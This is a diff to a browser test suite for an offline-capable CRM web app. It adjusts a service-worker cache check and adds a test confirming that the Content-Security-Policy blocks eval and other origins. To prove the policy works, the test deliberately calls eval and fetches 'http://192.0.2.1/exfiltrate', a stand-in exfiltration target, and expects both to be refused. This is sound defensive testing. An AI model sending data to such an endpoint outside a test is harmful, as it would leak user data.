@@ -2,7 +2,7 @@
 // resizes, the hidden textarea, the offline cache.
 import assert from 'node:assert/strict';
 import path from 'node:path';
-import { test, launchProfile, newProfile, shots, colourStats, hasItem, openApp, findItem, click, focusField, waitFor, signIn, ADMIN } from './browser.mjs';
+import { test, launchProfile, newProfile, shots, colourStats, hasItem, openApp, findItem, click, focusField, waitFor, signIn, ADMIN, violations } from './browser.mjs';
 
 test('a client created through window.crm.call is still there after the browser restarts', async (url) => {
   const dir = newProfile();
@@ -121,7 +121,7 @@ test('open once, then it works with no network: the service worker serves the si
     await signIn(page);
     await page.evaluate(() => window.crm.call('client.create', { code: 'HORS-LIGNE', name: 'Café du Réseau Coupé' }));
     await page.evaluate(() => navigator.serviceWorker.ready);
-    await waitFor(page, async () => (await caches.keys()).length > 0 && (await (await caches.open((await caches.keys())[0])).keys()).length >= 9);
+    await waitFor(page, async () => (await caches.keys()).length > 0 && (await (await caches.open((await caches.keys())[0])).keys()).length >= 11);
     await ctx.setOffline(true);
     await page.reload();
     await waitFor(page, () => window.crm && window.crm.status() === 'ready' && window.crm.ui.ready());
@@ -130,6 +130,30 @@ test('open once, then it works with no network: the service worker serves the si
     assert.ok(r.result, JSON.stringify(r));
     await page.locator('#canvas').screenshot({ path: path.join(shots, 'offline.png') });
     assert.deepEqual(errors.filter((e) => !e.includes('ERR_INTERNET_DISCONNECTED')), []);
+  } finally {
+    await ctx.close();
+  }
+});
+
+test('no network at run time: the Content-Security-Policy refuses eval and every other origin', async (url) => {
+  const ctx = await launchProfile(newProfile());
+  try {
+    const { page } = await openApp(ctx, url);
+    const csp = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]').content);
+    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
+    assert.doesNotMatch(csp, /'unsafe-eval'|'unsafe-inline'|https?:|\*/);
+    // The app itself started under it (the runner fails a test on any violation); now
+    // provoke two on purpose.
+    const r = await page.evaluate(async () => {
+      let evalRefused = false;
+      try { (0, eval)('1 + 1'); } catch (e) { evalRefused = e instanceof EvalError; }
+      let fetchRefused = false;
+      try { await fetch('http://192.0.2.1/exfiltrate'); } catch (e) { fetchRefused = true; }
+      return { evalRefused, fetchRefused };
+    });
+    assert.deepEqual(r, { evalRefused: true, fetchRefused: true });
+    assert.ok(violations.some((v) => v.startsWith('CSP:')), 'the refusals were reported as violations');
+    violations.length = 0; // provoked above: not the app's doing
   } finally {
     await ctx.close();
   }
